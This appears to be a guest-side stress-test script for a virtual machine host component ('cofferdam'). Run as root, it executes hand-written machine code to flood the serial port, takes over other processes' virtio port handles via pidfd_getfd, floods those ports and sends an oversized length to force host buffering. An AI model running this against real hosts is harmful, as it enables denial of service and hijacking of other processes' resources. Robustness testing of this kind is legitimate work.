# Root of a guest that says to its host more than anybody has to hear. It begins with each thing when it is told to.
import ctypes, glob, mmap, os, select, sys
libc = ctypes.CDLL(None, use_errno=True)
def say(*words): print(*words, flush=True)
def wait(what):
    say("ready for", what)
    sys.stdin.readline()
def serial(count):
    # As the kernel does it, with nothing in between: 16 bytes whenever the line has room for so many.
    # mov al, 1; mov dx, 0x3fa; out dx, al
    # more: mov dx, 0x3fd; full: in al, dx; test al, 0x20; jz full
    # mov dx, 0x3f8; mov ecx, 16; rep outsb; sub edi, 16; jnz more; ret
    if libc.iopl(3) != 0: return say("no ports", os.strerror(ctypes.get_errno()))
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex("b00166bafa03ee" "66bafd03eca82074fb" "66baf803b910000000f36e83ef1075e7c3"))
    send = ctypes.CFUNCTYPE(None, ctypes.c_uint, ctypes.c_char_p)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    piece = os.urandom(1 << 16)
    for _ in range(count // len(piece)): send(len(piece), piece)
    say("said", count // len(piece) * len(piece), "bytes to the serial line")
def port(name):
    # It is open once only; root takes it from who has it.
    device = next(p for p in glob.glob("/sys/class/virtio-ports/*") if open(p + "/name").read().strip() == name).split("/")[-1]
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try: found = os.readlink(path)
        except OSError: continue
        if found.endswith("/" + device):
            _, _, holder, _, number = path.split("/")
            own = libc.syscall(438, os.pidfd_open(int(holder)), int(number), 0)
            say("has", name, "of process", holder, own >= 0)
            return own
def flood(own, count):
    # Until nobody takes it any more.
    os.set_blocking(own, False)
    takes = select.poll()
    takes.register(own, select.POLLOUT)
    while count > 0 and takes.poll(2000): count -= os.write(own, b"\xff" * 65536)
control, stream = port("cofferdam.control"), port("cofferdam.stream")
wait("the serial line")
serial(int(sys.argv[1]))
wait("the ports")
flood(stream, int(sys.argv[2]))
# As long as anything that a launcher says may be, so that the host begins to keep it.
os.write(control, (256 << 10).to_bytes(4, "little"))
flood(control, int(sys.argv[2]))
